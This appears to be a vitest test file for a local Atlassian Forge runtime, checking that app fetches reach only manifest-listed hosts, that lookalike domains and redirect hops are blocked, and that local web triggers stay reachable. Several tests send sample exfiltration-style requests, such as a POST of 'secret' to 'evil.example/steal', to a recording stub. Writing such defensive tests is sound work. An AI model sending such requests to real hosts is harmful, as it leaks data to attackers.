import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runInvocation } from '../../src/local/forge/globals';
import { localPartnerUrls } from '../../src/local/forge/outbound';
import { createLocalRuntime, type LocalRuntime } from '../../src/local/runtime';
import { checkPartnerUrl } from '../../src/transport/partner-url';
import { invoke } from '../integration/helpers';

// Egress as Forge enforces it, in the local runtime: inside an invocation the
// app's `fetch` (the real @forge/api one) reaches only the hosts the manifest
// lists under permissions.external.fetch.backend, and fails with Forge's own
// error otherwise; the runtime's own web triggers stand in for Forge's web
// trigger domains. "The internet" is a recording stand-in installed as the
// global fetch before the runtime, so what would leave the process is seen
// and nothing does.

const BASE = 'http://sandbox-egress.test';
const outside: string[] = [];

const internet = (async (input: string | URL | Request, init?: RequestInit) => {
  const request = new Request(input, init);
  outside.push(`${request.method} ${request.url}`);
  if (request.url.startsWith('https://bounce.hello.atlassian-dev.net/')) {
    return new Response(null, { status: 302, headers: { location: 'https://evil.example/after-redirect' } });
  }
  if (request.url.startsWith('https://hop.hello.atlassian-dev.net/')) {
    return new Response(null, { status: 307, headers: { location: 'https://landed.webtrigger.atlassian.app/x' } });
  }
  return Response.json({ from: 'the internet', method: request.method, body: await request.text() });
}) as typeof fetch;

let rt: LocalRuntime;
let api: typeof import('@forge/api');
let forgePlatform: typeof import('../../src/forge/platform').forgePlatform;

beforeAll(async () => {
  globalThis.fetch = internet;
  rt = await createLocalRuntime({ dataDir: mkdtempSync(join(tmpdir(), 'egress-')), reset: true, baseUrl: BASE });
  // Imported after the runtime, as the app's own modules are: @forge/api captures fetch at import.
  api = await import('@forge/api');
  ({ forgePlatform } = await import('../../src/forge/platform'));
});
afterAll(() => rt?.close());

/** Run `fn` as an invocation of the app on blue, where the app's own handlers run. */
const onBlue = <T>(fn: () => Promise<T>, timeoutMs?: number) => runInvocation(rt.forge.installation('blue'), 'egress-test', { timeoutMs }, fn);

async function refusal(url: string, init?: { method?: string; body?: string }): Promise<unknown> {
  outside.length = 0;
  const error = await onBlue(() => api.fetch(url, init)).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(outside).toEqual([]);
  return error;
}

describe('egress inside an invocation', () => {
  it('refuses a host outside the manifest list with the error Forge raises, before anything leaves', async () => {
    const error = await refusal('https://evil.example/steal', { method: 'POST', body: 'secret' });
    expect(error).toBeInstanceOf(api.ExternalEndpointNotAllowedError);
    expect(error).toMatchObject({
      name: 'REQUEST_EGRESS_ALLOWLIST_ERR',
      status: 403,
      message: 'URL not included in the external fetch backend permissions: https://evil.example/steal. Visit go.atlassian.com/forge-egress for more information.',
    });
  });

  it('refuses http to a listed domain, the parent of a wildcard, and lookalike hosts', async () => {
    for (const url of [
      'http://abc.hello.atlassian-dev.net/x/1',
      'https://hello.atlassian-dev.net/x/1',
      'https://abc.hello.atlassian-dev.net.evil.example/x/1',
      'https://webtrigger.atlassian.app.evil.example/x',
    ]) {
      expect(await refusal(url), url).toBeInstanceOf(api.ExternalEndpointNotAllowedError);
    }
  });

  it("refuses the runtime's other paths and other local hosts: only its web triggers stand in for Forge's", async () => {
    for (const url of [
      `${BASE}/blue/rest/api/3/myself`,
      `${BASE}/green/bridge/invoke`,
      `${BASE}/green/x/no-such-trigger`,
      `${BASE}/no-such-site/x/partner-endpoint`,
      'http://localhost:1/green/x/partner-endpoint',
      'http://127.0.0.1:8080/green/x/partner-endpoint',
    ]) {
      expect(await refusal(url), url).toBeInstanceOf(api.ExternalEndpointNotAllowedError);
    }
  });

  it('lets a call to a host matching a manifest pattern go out', async () => {
    outside.length = 0;
    const answers = await onBlue(async () => {
      const a = await api.fetch('https://abc123.hello.atlassian-dev.net/x/1', { method: 'POST', body: 'hello' });
      const b = await api.fetch('https://d1.ex.webtrigger.atlassian.app/public/x/2');
      return [await a.json(), await b.json()];
    });
    expect(outside).toEqual(['POST https://abc123.hello.atlassian-dev.net/x/1', 'GET https://d1.ex.webtrigger.atlassian.app/public/x/2']);
    expect(answers).toEqual([
      { from: 'the internet', method: 'POST', body: 'hello' },
      { from: 'the internet', method: 'GET', body: '' },
    ]);
  });

  it('holds every redirect hop to the list', async () => {
    outside.length = 0;
    const error = await onBlue(() => api.fetch('https://bounce.hello.atlassian-dev.net/x')).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(api.ExternalEndpointNotAllowedError);
    expect((error as Error).message).toContain('https://evil.example/after-redirect');
    expect(outside).toEqual(['GET https://bounce.hello.atlassian-dev.net/x']);

    outside.length = 0;
    const landed = await onBlue(async () => (await api.fetch('https://hop.hello.atlassian-dev.net/x', { method: 'POST', body: 'kept' })).json());
    expect(outside).toEqual(['POST https://hop.hello.atlassian-dev.net/x', 'POST https://landed.webtrigger.atlassian.app/x']);
    expect(landed).toEqual({ from: 'the internet', method: 'POST', body: 'kept' });
  });

  it("reaches the runtime's own web triggers in-process, over http", async () => {
    outside.length = 0;
    const described = await onBlue(async () => (await api.fetch(`${BASE}/green/x/partner-endpoint`)).json());
    expect(described).toMatchObject({ app: 'exalate-forge-sync', exalateUrl: `${BASE}/green/x/partner-endpoint` });
    expect(outside).toEqual([]);
  });

  it("grants the invocation the manifest's permissions, so @forge/api's own check agrees", async () => {
    const seen = await onBlue(async () => ({
      listed: api.permissions.canFetchFrom('backend', 'https://x.webtrigger.atlassian.app/y'),
      other: api.permissions.canFetchFrom('backend', 'https://evil.example/'),
      scopes: api.getAppContext().permissions?.scopes,
    }));
    expect(seen).toEqual({ listed: true, other: false, scopes: expect.arrayContaining(['storage:app', 'read:jira-work']) });
  });

  it('checks nothing outside invocations: tests and the CLI use fetch freely', async () => {
    outside.length = 0;
    await fetch('https://evil.example/from-a-test');
    expect(outside).toEqual(['GET https://evil.example/from-a-test']);
    expect((await fetch(`${BASE}/blue/rest/api/3/myself`)).status).toBe(200);
  });
});

describe('the platform the app gets in the local runtime', () => {
  it("allows http only for the runtime's own web triggers", async () => {
    expect(checkPartnerUrl(`${BASE}/green/x/partner-endpoint`, localPartnerUrls).ok).toBe(true);
    expect(checkPartnerUrl(`${BASE}/green/x/partner-endpoint?probe=1`, localPartnerUrls).ok).toBe(true);
    expect(checkPartnerUrl(`${BASE}/green/rest/api/3/myself`, localPartnerUrls).ok).toBe(false);
    expect(checkPartnerUrl('http://evil.example/green/x/partner-endpoint', localPartnerUrls).ok).toBe(false);
    await expect(onBlue(async () => forgePlatform().partnerUrls)).resolves.toBe(localPartnerUrls);
  });

  it("reports the invocation's remaining time from the runtime", async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      vi.setSystemTime(Date.parse('2026-11-23T10:00:00Z'));
      expect(await onBlue(async () => forgePlatform().invocation?.remainingMs(), 55_000)).toBe(55_000);
      expect(await onBlue(async () => forgePlatform().invocation?.remainingMs())).toBe(25_000);
    } finally {
      vi.useRealTimers();
    }
  });
});

describe('partner URLs through the app', () => {
  const base = { mode: 'script', localName: 'BlueJira', remoteName: 'Other', projectKey: 'UD' };

  it('reports a destination outside the egress list as not answering, with the platform saying why', async () => {
    await expect(invoke(rt, 'blue', 'initiateConnection', { ...base, destinationUrl: 'https://evil.example/x/partner-endpoint' })).rejects.toThrow(
      /does not answer as an Exalate instance \(no answer \(URL not included in the external fetch backend permissions: https:\/\/evil\.example\/x\/partner-endpoint\./,
    );
  });

  it('refuses an http destination that is not one of the sandbox sites before calling it', async () => {
    outside.length = 0;
    await expect(invoke(rt, 'blue', 'initiateConnection', { ...base, destinationUrl: 'http://evil.example/x/partner-endpoint' })).rejects.toThrow(
      'destinationUrl: The partner URL http://evil.example/x/partner-endpoint uses plain http',
    );
    expect(outside).toEqual([]);
  });

  it("connects to a sandbox site's own web trigger over http", async () => {
    const green = await invoke<{ exalateUrl: string }>(rt, 'green', 'getInstance');
    const made = await invoke<{ kind: string }>(rt, 'blue', 'initiateConnection', { ...base, destinationUrl: green.exalateUrl });
    expect(made.kind).toBe('public');
  });
});
